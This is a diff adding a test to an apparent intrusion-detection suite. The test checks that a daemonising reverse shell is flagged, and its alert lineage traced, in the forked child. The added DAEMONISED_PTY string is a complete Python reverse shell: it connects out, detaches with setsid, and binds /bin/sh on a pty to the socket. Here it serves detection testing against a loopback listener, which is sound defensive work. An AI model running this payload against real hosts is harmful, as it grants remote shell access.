@@ -272,6 +272,51 @@ def test_pty_reverse_shell_is_judged_when_stdio_becomes_a_socket(
             _stop(proc)
 
 
+# the socket made by a parent that returns at once; its forked child, alone
+# in a new session, dups it onto 0-2 and spawns the shell on a pty (a
+# daemonising reverse shell: the process holding the socket never made it)
+DAEMONISED_PTY = r"""
+import os, pty, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+if os.fork():
+    os._exit(0)
+os.setsid()
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+pty.spawn("/bin/sh")
+"""
+
+
+def test_daemonised_pty_reverse_shell_is_judged_in_the_child(guard: Daemon, tmp_path: Path) -> None:
+    with listener("127.0.13.3", 0) as attacker:
+        proc = _spawn(DAEMONISED_PTY, attacker, tmp_path)
+        try:
+            driver = guard.wait_alert(
+                lambda r: (
+                    "shell-stdio-socket" in rule_ids(r)
+                    and r["network"].get("daddr") == "127.0.13.3"
+                    and r["process"]["pid"] != proc.pid
+                )
+            )
+            assert driver["category"] == "reverse_shell"
+            assert driver["process"]["comm"].startswith("python")  # the child, not its shell
+            # reparented to init once its parent exited: lineage still names the
+            # process that created it (and made the socket)
+            assert driver["lineage"][0]["pid"] == proc.pid
+            spawned = guard.wait_alert(
+                lambda r: (
+                    "shell-under-socket-stdio" in rule_ids(r)
+                    and r["lineage"]
+                    and r["lineage"][0]["pid"] == driver["process"]["pid"]
+                )
+            )
+            assert spawned["process"]["comm"] == "sh"
+        finally:
+            _stop(proc)
+            with contextlib.suppress(ProcessLookupError, KeyError, NameError):
+                os.killpg(driver["process"]["pid"], signal.SIGKILL)
+
+
 def test_terminal_server_shell_on_a_pty_is_clean(guard: Daemon, tmp_path: Path) -> None:
     with listener("127.0.13.2", 0) as client:
         proc = _spawn(TERMINAL_SERVER, client, tmp_path)
